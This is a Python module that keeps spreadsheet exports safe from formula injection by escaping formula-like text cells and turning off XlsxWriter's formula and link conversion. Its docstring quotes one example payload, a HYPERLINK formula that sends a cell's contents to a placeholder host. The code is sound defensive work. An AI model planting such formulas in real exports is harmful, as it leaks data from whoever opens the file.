"""The one way govflow writes spreadsheet cells, so no exported text runs as a formula.

A title such as ``=HYPERLINK("http://x/?"&A1,"y")`` typed into a form is data; opened in
Excel or LibreOffice it would run. Every CSV goes through :func:`csv_writer`, which
prefixes a text cell that starts like a formula with ``'`` (the OWASP rule), and every
workbook comes from :func:`new_workbook`, which writes text as text, never as a formula
or a link. Numbers are never touched: a negative count stays a number.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import IO, TYPE_CHECKING, Any

if TYPE_CHECKING:
    import xlsxwriter

#: What a spreadsheet program reads as the start of a formula (tab and CR too: some
#: programs strip them and then see the formula behind them).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

#: XlsxWriter's default turns text starting with ``=`` into a formula and text that
#: looks like an address into a hyperlink; govflow's workbooks only ever hold data.
XLSX_OPTIONS = {"strings_to_formulas": False, "strings_to_urls": False,
                "strings_to_numbers": False}


def safe_cell(value: Any) -> Any:
    """``value`` as a CSV cell: text that would start a formula gets a leading ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeCsvWriter:
    """``csv.writer`` whose every text cell has passed :func:`safe_cell`."""

    def __init__(self, out: IO[str]) -> None:
        self._writer = csv.writer(out)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out: IO[str]) -> SafeCsvWriter:
    return SafeCsvWriter(out)


def new_workbook(target: Any) -> xlsxwriter.Workbook:
    """An in-memory XlsxWriter workbook writing into ``target`` (a file or a buffer)."""
    import xlsxwriter  # here: a CSV export needs no XlsxWriter

    return xlsxwriter.Workbook(target, {"in_memory": True, **XLSX_OPTIONS})
